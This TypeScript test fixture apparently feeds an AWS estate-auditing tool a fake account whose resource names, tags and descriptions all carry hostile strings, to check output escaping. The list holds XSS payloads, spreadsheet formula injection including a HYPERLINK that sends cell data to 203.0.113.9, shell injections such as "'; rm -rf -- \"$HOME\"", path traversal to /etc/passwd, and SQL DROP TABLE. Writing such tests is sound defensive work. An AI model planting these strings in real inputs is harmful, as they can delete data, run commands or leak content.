import type { Estate } from '../estate.ts';
import { guardrail } from './guardrail-maker.ts';
import { identityMaker } from './identity-maker.ts';
import { placeMaker } from './maker.ts';
import { accountsOf, organizationOf } from './organization.ts';
import type { EstateSetting } from './setting.ts';
import { deny, trusts } from './statements.ts';

/** Text as an attacker would write it into names, tags and descriptions: each line attacks another output. */
export const hostileTexts: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</script><script>alert(document.domain)</script>',
  ']]><!-- & &amp; &#x1b; -->',
  '{{{constructor.constructor "return process"}}}',
  '=HYPERLINK("http://203.0.113.9/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\u001b[31mred\u001b[0m\u001b]0;title\u0007',
  '\u009b31mred',
  'line\n::error file=app.js,line=1::injected\r\nline',
  'line%0A::set-output name=x::y',
  '$(touch owned) `touch owned` ; touch owned | cat && x',
  '\'; rm -rf -- "$HOME" #',
  '--region=evil',
  '-rf',
  '..\\..\\..\\windows\\win.ini',
  '../../../../etc/passwd',
  '| a | b |\n|---|---|\n[x](javascript:alert(1))',
  '\u202egnp.exe\u202c',
  '\u0000\u0001\u0008\u000b\u007f',
  'emoji \u{1f4a3}\u{1f468}\u200d\u{1f469}\u200d\u{1f467} \ud83d',
  '\u2028\u2029\ufeff\ufffe',
  '__proto__',
  'constructor',
  'x'.repeat(255),
  '\'"; DROP TABLE heads; --',
  '   ',
  '',
];

/** One account and region in which every name, tag key, tag value and description is one of `hostileTexts`. */
export function hostileEstate({ now }: EstateSetting): Estate {
  const account = '666677778888';
  const region = 'us-east-1';
  const specs = [{ id: account, name: '<b>=cmd|\u001b[31m</b>', alias: 'hostile-alias', parentId: 'r-host' }];
  const organization = organizationOf('o-hostile001', 'r-host', specs, []);
  const estate: Estate = {
    name: 'hostile',
    partition: 'aws',
    homeId: account,
    regions: [{ name: region, optIn: false }],
    organization,
    accounts: accountsOf(specs),
    foreign: new Map(),
    faults: [],
  };
  const who = identityMaker(estate, now, account, 667);
  const make = placeMaker(estate, now, account, region, 666);
  const database = make.database({ id: 'hostile', engine: 'mysql' });
  for (const [at, text] of hostileTexts.entries()) {
    const tags = { Name: text, owner: text, ...(text === '' ? {} : { [text]: text }) };
    const permissions = at % 2 === 0 ? [{ userId: '999999999999' }] : [];
    const snapshot = make.snapshot({ daysOld: at + 1, description: text, tags, permissions });
    make.image({
      name: text,
      description: text,
      daysOld: at + 1,
      snapshots: [snapshot],
      tags,
      permissions: [{ group: 'all' }],
    });
    make.volume({ machine: text, sizeGiB: 8, tags });
    who.role(`hostile-${at}`, {
      trust: [trusts({ AWS: account }, { StringEquals: { 'sts:ExternalId': text } })],
      inline: {
        [`hostile-${at}`]: [
          deny(text, 'ec2:*', `arn:aws:ec2:*::snapshot/${text}`, { StringLike: { 'aws:ResourceTag/owner': text } }),
        ],
      },
      tags,
    });
    if (text !== '')
      guardrail(organization, {
        id: `p-hostile${String(at).padStart(4, '0')}`,
        name: text,
        statements: [deny(text, 's3:*', text)],
        targets: ['r-host'],
      });
    make.dbSnapshot(database, { id: `hostile-${at}`, type: 'manual', daysOld: at + 1, restore: ['all'], tags });
  }
  return estate;
}
